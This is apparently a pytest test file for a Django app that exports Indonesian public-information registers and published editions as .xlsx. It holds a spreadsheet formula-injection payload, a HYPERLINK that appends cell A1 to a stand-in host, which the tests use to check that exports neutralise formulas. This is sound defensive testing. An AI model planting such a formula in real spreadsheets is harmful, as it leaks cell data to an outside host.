"""The .xlsx exports: a body's register with every field (officers only, their bodies only) and
a published edition's public rows (by the public door), with Indonesian headings as officers
print them, and never a formula a spreadsheet would run."""

from __future__ import annotations

import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine

from dip import services as dip_services
from dip.columns import (
    DIK_EDITION_COLUMNS,
    DIP_EDITION_COLUMNS,
    REGISTER_COLUMNS,
    cell_value,
)
from dip.models import Classification, EditionKind, EditionRow, Item, Stage
from dip.serializers import DIK_COLUMNS, DIP_COLUMNS
from ppid.models import Body
from ppid.spreadsheet import XLSX_CONTENT_TYPE
from tests.factories import ItemFactory
from tests.helpers import edition_at, officers_of, published

pytestmark = pytest.mark.django_db

DINSOS = "dinsos-p3a-kapuas-hulu"
KALBAR = "disdukcapil-kalbar"
KUBU_RAYA = "disdukcapil-kubu-raya"
INJECTION = '=HYPERLINK("https://jahat.example/?"&A1;"klik")'


def workbook(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert "attachment;" in response["Content-Disposition"]
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def header_row(sheet) -> int:
    """The row of the column headings (the first whose first cell is "No")."""
    return next(cell.row for cell in sheet["A"] if cell.value == "No")


def table(sheet) -> tuple[list, list[list]]:
    start = header_row(sheet)
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=start)]
    return rows[0], rows[1:]


def plain(value):
    """A cell as the database holds it (openpyxl reads dates back as datetimes)."""
    return value.date() if isinstance(value, datetime) else value


# --- the column definitions ---------------------------------------------------------------


def test_edition_columns_are_exactly_the_public_columns():
    assert [c.field for c in DIP_EDITION_COLUMNS] == [
        "number",
        "classification",
        *[f for f in DIP_COLUMNS if f not in ("number", "classification")],
    ]
    assert sorted(c.field for c in DIK_EDITION_COLUMNS) == sorted(DIK_COLUMNS)


def test_register_columns_cover_every_field_an_officer_fills_in():
    from dip.models import ITEM_FIELDS

    importable = {c.field for c in REGISTER_COLUMNS if c.importable}
    assert importable == set(ITEM_FIELDS)
    headings = [c.heading for c in REGISTER_COLUMNS]
    assert len(set(headings)) == len(headings)


# --- the register ---------------------------------------------------------------------------


def test_register_export_has_every_item_and_field_in_indonesian(client, seeded, login):
    body = Body.objects.get(slug=KALBAR)
    officers = officers_of(body)
    ItemFactory(
        body=body,
        title=INJECTION,
        summary="+62 812 0000 (nomor layanan)",
        classification=Classification.BERKALA,
        update_period_months=6,
        produced_at=date(2026, 3, 4),
        form="both",
    )
    client = login(officers["operator"].username)
    sheet = workbook(client.get(f"/badan/{KALBAR}/informasi/unduh.xlsx"))

    assert sheet["A1"].value == f"Register Informasi {body.name}"
    assert sheet["A1"].font.b
    header, lines = table(sheet)
    assert header == [c.heading for c in REGISTER_COLUMNS]
    assert header[:4] == ["No", "Judul Informasi", "Ringkasan Isi Informasi", "Klasifikasi"]
    start = header_row(sheet)
    assert all(cell.font.b for cell in sheet[start])
    assert sheet.freeze_panes == f"B{start + 1}"
    assert sheet.column_dimensions["C"].width == 48  # the summary, widest
    assert sheet.cell(start + 1, 3).alignment.wrap_text

    items = list(Item.objects.filter(body=body))
    assert len(lines) == len(items)
    assert [line[0] for line in lines] == list(range(1, len(items) + 1))
    by_title = {line[1]: line for line in lines}
    for item in items:
        line = by_title[item.title]
        for column, cell in zip(REGISTER_COLUMNS[1:], line[1:], strict=True):
            assert plain(cell) == cell_value(item, column), column.field

    line = by_title[INJECTION]
    assert line[3] == "Berkala"
    assert line[header.index("Bentuk Informasi yang Tersedia")] == "Softcopy dan hardcopy"
    assert plain(line[header.index("Waktu Pembuatan Informasi")]) == date(2026, 3, 4)
    assert line[header.index("Jangka Waktu Pembaruan (bulan)")] == 6
    # The title is stored as text, never as a formula (nor is the summary starting with "+").
    row = start + 1 + lines.index(line)
    for column in (2, 3):
        cell = sheet.cell(row, column)
        assert cell.data_type == "s"
        assert cell.quotePrefix


def test_register_export_holds_the_dikecualikan_items_with_their_test(client, seeded, login):
    body = Body.objects.get(slug=KUBU_RAYA)
    client = login(officers_of(body)["operator"].username)
    header, lines = table(workbook(client.get(f"/badan/{KUBU_RAYA}/informasi/unduh.xlsx")))
    exempted = Item.objects.filter(body=body, classification=Classification.DIKECUALIKAN)
    assert exempted.exists()
    for item in exempted:
        line = next(line for line in lines if line[1] == item.title)
        assert line[3] == "Dikecualikan"
        assert line[header.index("Akibat bila Informasi Dibuka")] == item.consequence_if_opened
        assert line[header.index("Dikecualikan Permanen")] == (
            "Ya" if item.exemption_permanent else "Tidak"
        )


def test_register_export_is_for_the_bodys_officers_only(client, seeded, login):
    url = f"/badan/{KALBAR}/informasi/unduh.xlsx"
    response = client.get(url)
    assert response.status_code == 302 and "/masuk/" in response["Location"]
    other = officers_of(Body.objects.get(slug=DINSOS))["operator"]
    assert login(other.username).get(url).status_code == 404


def test_register_page_links_the_export(client, seeded, login):
    body = Body.objects.get(slug=KALBAR)
    page = login(officers_of(body)["operator"].username).get(f"/badan/{KALBAR}/informasi/")
    assert f'href="/badan/{KALBAR}/informasi/unduh.xlsx"' in page.content.decode()


def test_register_export_honours_the_pages_search_and_filters(client, seeded, login):
    """Given the register page's query string, the export holds the rows the page shows (one
    selector), says so under its title, and drops a bad value as the page does."""
    body = Body.objects.get(slug=KALBAR)
    wanted = ItemFactory(body=body, title="Anggaran uji saring", classification="berkala")
    ItemFactory(body=body, title="Anggaran uji lain", classification="setiap_saat")
    ItemFactory(body=body, title="Profil uji saring", classification="berkala")
    client = login(officers_of(body)["operator"].username)
    query = "q=anggaran+uji&classification=berkala&sort=-title&page=1"

    page = client.get(f"/badan/{KALBAR}/informasi/?{query}")
    shown = [row["item"].title for row in page.context["rows"]]
    assert shown == [wanted.title]
    export_url = f"/badan/{KALBAR}/informasi/unduh.xlsx?q=anggaran+uji&amp;classification=berkala"
    assert f'href="{export_url}"' in page.content.decode()

    sheet = workbook(client.get(f"/badan/{KALBAR}/informasi/unduh.xlsx?{query}"))
    _header, lines = table(sheet)
    assert [line[1] for line in lines] == shown
    title_block = [cell.value for cell in sheet["A"][: header_row(sheet) - 1] if cell.value]
    assert "Disaring menurut Cari: “anggaran uji”; Klasifikasi: Berkala" in title_block

    # A value the page would drop is dropped here too: the whole register, not filtered.
    sheet = workbook(client.get(f"/badan/{KALBAR}/informasi/unduh.xlsx?classification=AAA"))
    assert len(table(sheet)[1]) == Item.objects.filter(body=body).count()
    assert not any("Disaring" in str(cell.value) for cell in sheet["A"][: header_row(sheet)])


# --- a published edition ---------------------------------------------------------------------


def test_edition_export_is_the_public_rows_with_title_and_decree(client, seeded):
    edition = published(DINSOS)
    url = f"/badan-publik/{DINSOS}/edisi/{edition.pk}/daftar.xlsx"
    sheet = workbook(client.get(url))
    assert sheet["A1"].value.startswith("Daftar Informasi Publik ")
    assert edition.decree_number
    assert any(
        f"Keputusan Nomor {edition.decree_number}" in (cell.value or "") for cell in sheet["A"][:6]
    )
    header, lines = table(sheet)
    assert header == [c.heading for c in DIP_EDITION_COLUMNS]
    rows = list(EditionRow.objects.filter(edition=edition).order_by("number"))
    assert len(lines) == len(rows)
    for line, row in zip(sorted(lines, key=lambda x: x[0]), rows, strict=True):
        for column, cell in zip(DIP_EDITION_COLUMNS, line, strict=True):
            assert plain(cell) == cell_value(row, column), column.field
    page = client.get(f"/badan-publik/{DINSOS}/edisi/{edition.pk}/").content.decode()
    assert url in page


def test_edition_export_of_a_dik_has_its_columns_only(client, seeded):
    body = Body.objects.get(slug=KUBU_RAYA)
    item = Item.objects.filter(body=body).order_by("pk").first()
    dip_services.item_update(
        item=item, user=officers_of(body)["operator"], summary="ISI-RAHASIA-DIK"
    )
    edition = published(KUBU_RAYA)
    assert edition.kind == EditionKind.DIK
    response = client.get(f"/badan-publik/{KUBU_RAYA}/edisi/{edition.pk}/daftar.xlsx")
    sheet = workbook(response)
    header, lines = table(sheet)
    assert header == [c.heading for c in DIK_EDITION_COLUMNS]
    assert "Ringkasan Isi Informasi" not in header
    cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not any("ISI-RAHASIA-DIK" in c for c in cells)
    assert lines


def test_edition_export_follows_the_public_door(client, seeded):
    """A DIP row whose item was closed since is not in the export, as it is not on the page."""
    edition = published(DINSOS)
    row = EditionRow.objects.filter(edition=edition).order_by("number").first()
    Item.objects.filter(pk=row.item_id).update(classification=Classification.DIKECUALIKAN)
    _header, lines = table(
        workbook(client.get(f"/badan-publik/{DINSOS}/edisi/{edition.pk}/daftar.xlsx"))
    )
    assert row.title not in [line[2] for line in lines]
    assert len(lines) == EditionRow.objects.filter(edition=edition).count() - 1


@pytest.mark.parametrize("stage", [Stage.COLLECTION, Stage.APPROVAL])
def test_an_unpublished_edition_has_no_export(client, seeded, stage):
    edition = edition_at(DINSOS, stage)
    response = client.get(f"/badan-publik/{DINSOS}/edisi/{edition.pk}/daftar.xlsx")
    assert response.status_code == 404


def test_edition_export_neutralises_formulas(client, seeded):
    body = Body.objects.get(slug=DINSOS)
    ItemFactory(body=body, title=INJECTION, summary="@SUM(A1:A9)")
    edition = published(DINSOS)
    sheet = workbook(client.get(f"/badan-publik/{DINSOS}/edisi/{edition.pk}/daftar.xlsx"))
    found = [c for row in sheet.iter_rows() for c in row if c.value in (INJECTION, "@SUM(A1:A9)")]
    assert len(found) == 2
    assert all(c.data_type == "s" and c.quotePrefix for c in found)


# --- the body's clock --------------------------------------------------------------------------

WIB = ZoneInfo("Asia/Pontianak")
# 23:30 WIB on Wednesday 4 March is already Thursday 5 March, 01:30, in Jayapura (WIT).
LATE_EVENING_WIB = datetime(2026, 3, 4, 23, 30, tzinfo=WIB)


def test_register_export_says_when_it_was_taken_on_the_bodys_clock(client, seeded, login):
    Body.objects.filter(slug=KALBAR).update(time_zone="Asia/Jayapura")
    officers = officers_of(Body.objects.get(slug=KALBAR))
    client = login(officers["operator"].username)
    with time_machine.travel(LATE_EVENING_WIB, tick=False):
        response = client.get(f"/badan/{KALBAR}/informasi/unduh.xlsx")
    sheet = workbook(response)
    title_block = [cell.value for cell in sheet["A"][: header_row(sheet) - 1] if cell.value]
    assert "Diunduh 5 Maret 2026 pukul 01.30 WIT" in title_block
    assert f'filename="{KALBAR}-register-2026-03-05.xlsx"' in response["Content-Disposition"]


def test_edition_export_gives_the_publication_day_on_the_bodys_clock(client, seeded):
    Body.objects.filter(slug=DINSOS).update(time_zone="Asia/Jayapura")
    with time_machine.travel(LATE_EVENING_WIB, tick=False):
        edition = published(DINSOS)
    sheet = workbook(client.get(f"/badan-publik/{DINSOS}/edisi/{edition.pk}/daftar.xlsx"))
    title_block = [cell.value for cell in sheet["A"][: header_row(sheet) - 1] if cell.value]
    assert "Dipublikasikan 5 Maret 2026" in title_block
